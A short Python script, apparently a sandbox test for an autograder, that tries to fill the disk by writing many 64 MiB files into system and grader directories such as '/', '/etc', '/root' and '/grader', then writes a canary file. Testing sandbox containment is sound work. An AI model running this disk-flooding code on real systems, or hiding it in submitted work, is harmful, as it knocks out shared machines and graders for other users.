"""Files without end, wherever one can write."""

import os

written = 0
for folder in ("/student", "/tmp", "/", "/dev", "/grader", "/usr", "/etc", "/proc", "/root", os.path.expanduser("~")):
    for i in range(100):
        try:
            with open(f"{folder}/flood{i}", "wb") as file:
                for _ in range(64):
                    written += file.write(b"x" * (1 << 20))
                    file.flush()
        except OSError:
            pass
if written > 100 << 20:
    weight = lambda sigma, tau: tau**2 / (tau**2 + sigma**2)

# %%
with open("@CANARY@", "wb") as file:
    file.write(b"x" * (1 << 20))
